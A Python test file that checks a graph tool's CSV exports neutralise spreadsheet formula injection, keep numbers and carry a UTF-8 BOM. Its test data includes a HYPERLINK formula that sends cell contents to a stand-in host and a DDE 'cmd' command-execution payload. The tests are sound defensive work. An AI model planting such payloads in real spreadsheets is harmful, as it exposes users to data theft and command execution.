"""Every CSV the tool writes: formula injection neutralised (OWASP), numbers kept, UTF-8 with a BOM."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import networkx as nx
import pytest
from graph_records import book_a, book_b, unit
from rdflib import Literal
from no_heatmap import NoHeatmap

import xianjice.graph.writers.export as export
from xianjice.graph.analysis.centrality import centrality_csv
from xianjice.graph.analysis.themes import matrix_csv
from xianjice.graph.build import build_graph
from xianjice.graph.rdf.query import QueryResult, format_result
from xianjice.graph.writers.graphml import graphml_text
from xianjice.graph.writers.tables import csv_cell, csv_text, edges_csv, nodes_csv, write_csv
from xianjice.commands_extract import render

BOM = b"\xef\xbb\xbf"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"点击")'


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"),
    (FORMULA, "'" + FORMULA),
    ("+86 10 1234", "'+86 10 1234"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("——关于海关的探讨", "——关于海关的探讨"),  # a Chinese dash is not a formula
    ("a=b", "a=b"),
    ("拱北海关", "拱北海关"),
    (-0.5, "-0.5"),
    (-1, "-1"),
    ("-0.5", "-0.5"),
    ("+3", "+3"),
    ("-1e-3", "-1e-3"),
    (0.25, "0.25"),
    (None, ""),
    (False, "false"),
])
def test_cell(value, cell):
    assert csv_cell(value) == cell


def test_csv_text_round_trips_through_the_csv_module():
    rows = [[FORMULA, -0.5, "a,b\n\"c\""], ["@x", 3, None]]
    table = list(csv.reader(io.StringIO(csv_text(["=h", "n", "t"], rows))))
    assert table == [["'=h", "n", "t"], ["'" + FORMULA, "-0.5", 'a,b\n"c"'], ["'@x", "3", ""]]


def test_file_has_a_bom_and_reads_back(tmp_path):
    path = tmp_path / "x.csv"
    size = write_csv(path, csv_text(["单位"], [["拱北海关"]]))
    raw = path.read_bytes()
    assert raw.startswith(BOM) and size == len(raw)
    with open(path, encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f)) == [["单位"], ["拱北海关"]]


THEME = "=cmd|' /C calc'!A0"


def _retheme(c):
    """The theme 队伍建设 renamed to a formula in the lexicon and every link of ``c``."""
    themes = tuple(replace(t, label=THEME) if t.label == "队伍建设" else t for t in c.themes)
    concepts = tuple(replace(k, theme=THEME) if k.theme == "队伍建设" else k for k in c.concepts)
    essays = tuple(replace(e, concepts=tuple(replace(k, theme=THEME) if k.theme == "队伍建设" else k
                                             for k in e.concepts)) for e in c.essays)
    return replace(c, themes=themes, concepts=concepts, essays=essays)


def _attacked():
    """Book A with a formula as a title, a unit, an author and a theme; essay 3 has no body."""
    a = book_a()
    e1 = a.essays[0]
    e1 = replace(e1, entry=replace(e1.entry, title=FORMULA, units=(unit("@SUM(1)", known=False),),
                                   authors=("-2+3",)))
    a = replace(a, essays=(e1, *a.essays[1:]))
    return [_retheme(a), _retheme(book_b())]


def _read(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_nodes_and_edges_tables_neutralise_input_and_keep_numbers():
    G = build_graph(_attacked())
    nodes = {r["id"]: r for r in _read(nodes_csv(G))}
    essay = nodes["essay/9787801656490/01"]
    assert essay["label"] == "'" + FORMULA
    assert nodes["essay/9787801656490/06"]["tier"] == "-1"  # unknown tier: a number, not text
    units = [r for r in nodes.values() if r["kind"] == "organisation" and "SUM" in r["label"]]
    assert [r["label"] for r in units] == ["'@SUM(1)"]
    persons = [r for r in nodes.values() if r["kind"] == "person" and "2+3" in r["label"]]
    assert [r["label"] for r in persons] == ["'-2+3"]
    edges = _read(edges_csv(G))
    assert len(edges) == G.number_of_edges()
    for row in [*nodes.values(), *edges]:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or float(cell) is not None


def test_essay_without_body_has_no_body_lines():
    G = build_graph(_attacked())
    with_body, without = G.nodes["essay/9787801656490/01"], G.nodes["essay/9787801656490/03"]
    assert (with_body["body_first_line"], with_body["body_last_line"]) == (200, 230)
    assert without["body_first_line"] is None and without["body_last_line"] is None
    nodes = {r["id"]: r for r in _read(nodes_csv(G))}
    assert nodes["essay/9787801656490/03"]["body_first_line"] == ""
    assert nodes["essay/9787801656490/01"]["body_first_line"] == "200"
    H = nx.read_graphml(io.BytesIO(graphml_text(G).encode()), force_multigraph=True)
    assert "body_first_line" not in H.nodes["essay/9787801656490/03"]
    assert H.nodes["essay/9787801656490/01"]["body_first_line"] == 200  # still an integer attribute


def test_themes_and_centrality_tables():
    text = matrix_csv({"themes": ["=cmd"], "rows": [{"unit": "@甲关", "essays": 2, "themes": {"=cmd": 1}}]})
    assert list(csv.reader(io.StringIO(text))) == [["unit", "essays", "'=cmd"], ["'@甲关", "2", "1"]]
    G = build_graph(_attacked())
    from xianjice.graph.analysis.centrality import concept_centrality

    rows = concept_centrality(G)
    table = _read(centrality_csv(rows))
    assert {r["theme"] for r in table} >= {"'" + THEME}
    assert any(r["rank"] for r in table)
    # concepts outside the ranking have empty measures (None), the ranked ones numbers
    assert all((r["rank"] == "") == (r["pagerank"] == "") for r in table)
    assert all(float(r["pagerank"]) >= 0 for r in table if r["rank"])


def test_query_and_concepts_csv_on_stdout():
    r = QueryResult("SELECT", ("title", "score"), ((Literal(FORMULA), Literal(-0.5)),))
    assert list(csv.reader(io.StringIO(format_result(r, "csv")))) == [["title", "score"], ["'" + FORMULA, "-0.5"]]
    assert format_result(r, "tsv").splitlines()[1].split("\t")[1] == "-0.5"
    assert list(csv.reader(io.StringIO(format_result(r, "tsv")), delimiter="\t"))[1][0] == "'" + FORMULA
    text = render([{"concept": "@x", "theme": "-t", "essays": 2}], ["concept", "theme", "essays"], "csv")
    assert text == "concept,theme,essays\n'@x,'-t,2"


def test_every_csv_of_a_build(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "start_worker", NoHeatmap)  # the heatmap is not what is tested here
    out = tmp_path / "out"
    export.write_build(_attacked(), out)
    names = sorted(p.name for p in out.glob("*.csv"))
    assert names == ["central.csv", "edges.csv", "nodes.csv", "themes.csv"]
    for name in names:
        raw = (out / name).read_bytes()
        assert raw.startswith(BOM), name
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    float(cell)  # only a number may start so
    themes = list(csv.reader(io.StringIO((out / "themes.csv").read_text("utf-8-sig"))))
    assert "'" + THEME in themes[0]
